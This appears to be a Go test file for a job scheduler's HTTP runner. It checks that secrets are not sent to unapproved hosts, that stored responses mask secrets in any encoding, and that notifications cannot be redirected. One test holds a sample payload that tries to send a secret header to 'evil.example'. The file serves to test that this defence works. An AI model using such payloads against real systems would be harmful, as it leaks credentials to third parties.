package httpjob

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/carillon-scheduler/carillon/httpspec"
	"github.com/carillon-scheduler/carillon/internal/kernel"
	"github.com/carillon-scheduler/carillon/internal/outcome"
	"github.com/carillon-scheduler/carillon/jobs"
)

// A job that was stored when its secret was for other hosts, or elsewhere, is stopped when it runs: no call is made.
func TestNoCallCarriesASecretElsewhere(t *testing.T) {
	var reached atomic.Int64
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(server.Close)
	for host, calls := range map[string]int64{"api.example.com": 0, "127.0.0.1:81": 0, "127.0.0.1": 1} {
		reached.Store(0)
		r, err := New(nil, Config{Guard: *own(t, server), Secrets: httpspec.Secrets{"KEY": {Value: "s3cret", Hosts: []string{host}}}})
		if err != nil {
			t.Fatal(err)
		}
		plan, err := httpspec.Parse([]byte(`{"request":[{"url":"` + server.URL + `/${secret:KEY}"}]}`))
		if err != nil {
			t.Fatal(err)
		}
		_, err = r.send(t.Context(), plan.Steps[0], httpspec.Values{Secrets: r.cfg.Secrets}, map[string]string{}, "request 1", httpspec.NewMask(plan.Hidden(r.cfg.Secrets)...))
		if n := reached.Load(); n != calls || (err == nil) != (calls == 1) {
			t.Errorf("for %s: %d calls, %v", host, n, err)
		}
		if err != nil && (outcome.CodeOf(err) != CodeBlocked || !outcome.IsFinal(err) || strings.Contains(err.Error(), "s3cret")) {
			t.Errorf("for %s: %v", host, err)
		}
	}
	if _, err := New(nil, Config{Secrets: httpspec.Secrets{"KEY": {Value: "s3cret"}}}); !errors.Is(err, jobs.BadInput) {
		t.Errorf("a secret for no host: %v", err)
	}
}

// A service may repeat secrets of its request, in its own encoding. A stored answer has no secret in it.
func TestAnswersAreMaskedHoweverTheyAreWritten(t *testing.T) {
	for _, c := range []struct{ secret, answer, want string }{
		{"ab/cd==", `{"key":"ab/cd=="}`, `{"key":"***"}`},
		{"ab/cd==", `{"key":"ab\/cd=="}`, `{"key":"***"}`},
		{"ab/cd==", `{"key":"\u0061b/cd==","n":12345678901234567890}`, `{"key":"***","n":12345678901234567890}`},
		{"a<b&c", `["a\u003cb\u0026c"]`, `["***"]`},
		{`say "x"`, `{"say \"x\"":1}`, `{"***":1}`},
		{`say "x"`, `"say \"x\""`, `"***"`},
		{"ab/cd==", `Bearer ab/cd== and ab%2Fcd%3D%3D`, `Bearer *** and ***`},
		{"ab/cd==", `{"key":"other"} `, `{"key":"other"} `},
		{"ab/cd==", ``, ``},
		{"ab/cd==", `{"key":"YWIvY2Q9PQ=="}`, `{"key":"***"}`},
		{"ab/cd==", `{"key":"YWIvY2Q9PQ"}`, `{"key":"***"}`},
		{"ab/cd==", `61622f63643d3d 61622F63643D3D`, `*** ***`},
		{"ab/cd==", `{"ab%2fcd%3d%3d":1}`, `{"***":1}`},
	} {
		if got := string(masked(httpspec.NewMask(c.secret), []byte(c.answer))); got != c.want || strings.Contains(got, c.secret) {
			t.Errorf("%s became %s, want %s", c.answer, got, c.want)
		}
	}
}

// rows is a store that has one job.
type rows struct{ Store }

func (rows) Definition(_ context.Context, _ jobs.Tenant, key jobs.Key) (*kernel.Definition, error) {
	if key != "work" {
		return nil, kernel.Refuse(jobs.NotFound, "there is no job %s", key)
	}
	return &kernel.Definition{Key: key, Policy: kernel.Policy{HTTP: []byte(`{"request":[{"url":"http://127.0.0.1:2/x"}],"notification":[{"method":"POST","url":"http://127.0.0.1:2/noted","stateEquals":"200"}]}`)}}, nil
}

// A worker chooses what a notification of its run contains, but only the job chooses its recipients: no secrets of the
// delivering worker, and no other address.
func TestNotificationsThatNoJobHas(t *testing.T) {
	r, err := New(rows{}, Config{Guard: Guard{Allow: prefixes("127.0.0.1/32")}, Breaker: Breaker{Off: true}, Secrets: httpspec.Secrets{"KEY": {Value: "s3cret", Hosts: []string{"127.0.0.1", "evil.example"}}}})
	if err != nil {
		t.Fatal(err)
	}
	for what, call := range map[string]string{
		"another host":       `{"method":"POST","url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}`,
		"another header":     `{"method":"POST","url":"http://127.0.0.1:2/noted","headers":{"X":"${secret:KEY}"}}`,
		"another path":       `{"method":"POST","url":"http://127.0.0.1:2/else"}`,
		"nothing":            `{}`,
		"no call":            `"x"`,
		"of a job's request": `{"url":"http://127.0.0.1:2/x"}`,
	} {
		for _, of := range []jobs.Key{"work", "unknown", kernel.NotifyKey(App)} {
			err := r.deliver(t.Context(), notification{Job: of, Body: note{State: "200", Call: []byte(call), Notice: []byte(`{}`)}})
			if err == nil || !outcome.IsFinal(err) || outcome.CodeOf(err) != "" {
				t.Errorf("%s, of %s: %v", what, of, err)
			}
		}
	}
	// The call of the job is made: nothing listens there.
	err = r.deliver(t.Context(), notification{Job: "work", Body: note{State: "200", Call: []byte(`{"method":"POST","url":"http://127.0.0.1:2/noted"}`), Notice: []byte(`{}`)}})
	if outcome.CodeOf(err) != codeUndelivered {
		t.Errorf("the call of the job: %v", err)
	}
}
